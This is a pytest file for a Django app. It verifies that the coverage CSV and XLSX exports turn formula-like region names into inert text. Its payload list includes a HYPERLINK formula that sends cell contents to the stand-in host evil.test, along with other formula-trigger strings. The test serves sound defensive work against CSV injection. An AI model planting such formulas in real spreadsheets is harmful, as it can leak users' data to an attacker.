"""Issue 14, point 8: text that looks like a formula stays text in the coverage CSV and XLSX
(the dashboards' exports are the lead's, branch i18)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from netral.core.spreadsheets import formula_safe as csv_cell
from netral.registry.models import Region

pytestmark = pytest.mark.django_db
PAYLOADS = ['=HYPERLINK("http://evil.test/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def test_formula_cells_are_neutralised_in_the_coverage_csv_and_xlsx(alice_client: Client) -> None:
    kecamatan = list(Region.objects.filter(parent_id="64.08").order_by("code")[: len(PAYLOADS)])
    for region, payload in zip(kecamatan, PAYLOADS, strict=False):
        Region.objects.filter(pk=region.pk).update(name=payload)
    used = PAYLOADS[: len(kecamatan)]
    assert len(used) >= 4
    url = reverse("declarations:coverage_export", args=["csv"])
    body = alice_client.get(url, {"region": "64.08"}).content.decode()
    cells = {c for row in csv.reader(io.StringIO(body, newline="")) for c in row}
    for payload in used:
        assert "'" + payload in cells  # behind an apostrophe: text in every spreadsheet
        assert payload not in cells
    url = reverse("declarations:coverage_export", args=["xlsx"])
    book = load_workbook(io.BytesIO(alice_client.get(url, {"region": "64.08"}).content))
    # (a carriage return comes back escaped as _x000D_, OOXML's form of it)
    expected = {p: {p, p.replace("\r", "_x000D_")} for p in used}
    found = [
        c
        for row in book.active.iter_rows()
        for c in row
        if any(c.value in forms for forms in expected.values())
    ]
    assert {p for p, forms in expected.items() if any(c.value in forms for c in found)} == set(
        used
    )  # every payload is there (a region may appear on several rows)
    assert {c.data_type for c in found} == {"s"}  # string cells, never formulas ("f")


def test_the_neutraliser_leaves_other_values_alone() -> None:
    assert csv_cell("Kades Budi") == "Kades Budi"
    assert csv_cell(-5) == -5
    assert csv_cell("=1") == "'=1"
